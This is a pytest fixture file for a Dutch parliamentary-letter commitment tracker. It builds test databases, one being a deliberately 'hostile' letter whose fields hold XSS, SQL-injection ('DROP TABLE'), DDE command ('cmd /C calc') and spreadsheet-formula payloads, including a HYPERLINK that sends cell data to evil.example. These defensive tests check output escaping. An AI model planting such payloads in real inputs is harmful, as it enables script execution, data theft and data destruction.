"""Databases to serve: the seeds, a letter that means harm, and more rows than a page holds."""

from __future__ import annotations

from pathlib import Path

import pytest

from tracker.models import Amount, Citation, Commitment, Document, Extraction, Metadata, Section
from tracker.serve import server
from tracker.store.database import open_database
from tracker.store.save import save_document

SCRIPT = "<script>alert(1)</script>"
HOSTILE_QUOTES = (
    f'{SCRIPT} "><img src=x onerror=alert(2)> Het kabinet zegt toe.',
    '=HYPERLINK("https://evil.example/?x="&A1;"klik")',
    "+31 70 000 00 00 zal de minister bellen",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "javascript:alert(3)",
    "'; DROP TABLE commitments; --",
)
HOSTILE_TITLE = f'Verslag {SCRIPT} </title><svg onload="alert(4)">'
MANY = 5_000


def commitment(text: str, quote: str, **more: object) -> Commitment:
    start = text.index(quote)
    fields: dict[str, object] = {
        "kind": "undertaking",
        "status": "open",
        "rule": "toezegging/test",
        "confidence": 0.9,
        "topic": "overig",
        "policy_area": "Bestuur",
        "actor": "kabinet",
        "core": True,
    }
    return Commitment(quote=quote, start=start, end=start + len(quote), **{**fields, **more})  # type: ignore[arg-type]


def hostile_letter() -> Extraction:
    """A letter whose title, quotes, actor, section and addresses all try to become markup, script or formula."""
    reference = "Kamerstuk 28 676, nr. 434"
    text = f"Kop {SCRIPT}\n\n" + "\n\n".join(HOSTILE_QUOTES) + f"\n\nZie {reference} en het internet."
    metadata = Metadata(
        title=HOSTILE_TITLE,
        date="2024-05-23",
        chamber="TK",
        ministry=f"Ministerie {SCRIPT}",
        signatory="=1+1",
        url="javascript:alert(5)",
    )
    commitments = [
        commitment(text, quote, actor=f"=actor {SCRIPT}", beneficiary='"><b>x', section=f"Kop {SCRIPT}")
        for quote in HOSTILE_QUOTES
    ]
    start = text.index(reference)
    citations = (
        Citation(
            reference, "kamerstuk", start, start + len(reference),
            identifier="kst-28676-434", url="https://zoek.officielebekendmakingen.nl/kst-28676-434.html",
        ),
        Citation(
            "internet", "eu", text.index("internet"), text.index("internet") + 8,
            identifier=SCRIPT, url="https://officielebekendmakingen.nl.evil.example/kst-1-2.html",
        ),
    )  # fmt: skip
    source = f"brieven/{SCRIPT}.txt"
    document = Document(source, "0" * 64, "txt", text, metadata, (Section(f"Kop {SCRIPT}", 1, 0, len(text)),))
    return Extraction(document, tuple(commitments), citations)


def plain_letter() -> Extraction:
    """A letter with a pledge, and a heading and a citation that overlap what it quotes."""
    text = (
        "Steun aan Oekraïne\n\nNederland heeft EUR 2,5 miljard toegezegd aan Oekraïne. "
        "Het kabinet zal uw Kamer voor de zomer informeren over Kamerstuk 28 676, nr. 434."
    )
    amount = text.index("EUR 2,5 miljard")
    reference = "Kamerstuk 28 676, nr. 434"
    return Extraction(
        Document(
            "brieven/448.txt", "1" * 64, "txt", text,
            Metadata(
                identifier="kst-28676-448", title="Verslag NAVO", chamber="TK", date="2023-12-18",
                dossier="28676", number="448", session_year="2023-2024",
                url="https://zoek.officielebekendmakingen.nl/kst-28676-448.html",
            ),
            (Section("Steun aan Oekraïne", 1, 0, len(text)),),
        ),
        (
            commitment(
                text, "Nederland heeft EUR 2,5 miljard toegezegd aan Oekraïne.", kind="pledge", status="announced",
                actor="Nederland", beneficiary="Oekraïne", topic="steun aan Oekraïne",
                amount=Amount(2.5e9, "EUR", amount, amount + 15),
            ),
            commitment(
                text, "Het kabinet zal uw Kamer voor de zomer informeren over Kamerstuk 28 676, nr. 434.",
                addressee="Tweede Kamer",
            ),
        ),
        (
            Citation(
                reference, "kamerstuk", text.index(reference), text.index(reference) + len(reference),
                dossier="28676", number="434", identifier="kst-28676-434",
                url="https://zoek.officielebekendmakingen.nl/kst-28676-434.html",
            ),
        ),
    )  # fmt: skip


def many_letter(number: int = MANY) -> Extraction:
    """One document with `number` commitments."""
    sentences = [f"Ik zeg uw Kamer toe rapport {index:06d} te sturen." for index in range(number)]
    text = " ".join(sentences)
    commitments, at = [], 0
    for index, sentence in enumerate(sentences):
        commitments.append(
            Commitment(
                "undertaking", "open", sentence, at, at + len(sentence), "toezegging/test", 0.9,
                f"onderwerp {index % 7}", "Bestuur", actor="minister", addressee="Tweede Kamer", core=True,
            )
        )  # fmt: skip
        at += len(sentence) + 1
    document = Document("brieven/veel.txt", "2" * 64, "txt", text, Metadata(title="Veel", date="2022-01-31"))
    return Extraction(document, tuple(commitments))


def stored(path: Path, *extractions: Extraction) -> Path:
    with open_database(path) as db:
        for extraction in extractions:
            save_document(db, extraction, extractor_version="test")
    return path


@pytest.fixture(scope="session")
def hostile_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return stored(tmp_path_factory.mktemp("hostile") / "gevaar.db", hostile_letter(), plain_letter())


@pytest.fixture(scope="session")
def many_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return stored(tmp_path_factory.mktemp("many") / "veel.db", many_letter())


@pytest.fixture(scope="session")
def seeds_site(seeds_path: Path):
    return server.build(seeds_path)


@pytest.fixture(scope="session")
def hostile_site(hostile_path: Path):
    return server.build(hostile_path)


@pytest.fixture(scope="session")
def many_site(many_path: Path):
    return server.build(many_path)
